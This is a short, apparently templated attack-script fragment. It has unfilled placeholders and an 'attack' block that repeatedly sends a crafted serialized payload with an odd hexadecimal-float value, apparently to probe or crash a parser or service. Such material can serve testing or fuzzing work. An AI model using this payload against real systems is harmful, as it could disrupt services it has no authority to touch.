#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(500):
    send(b'["v",["f","0x0.0p+0"]]')
wait()
# </attack>
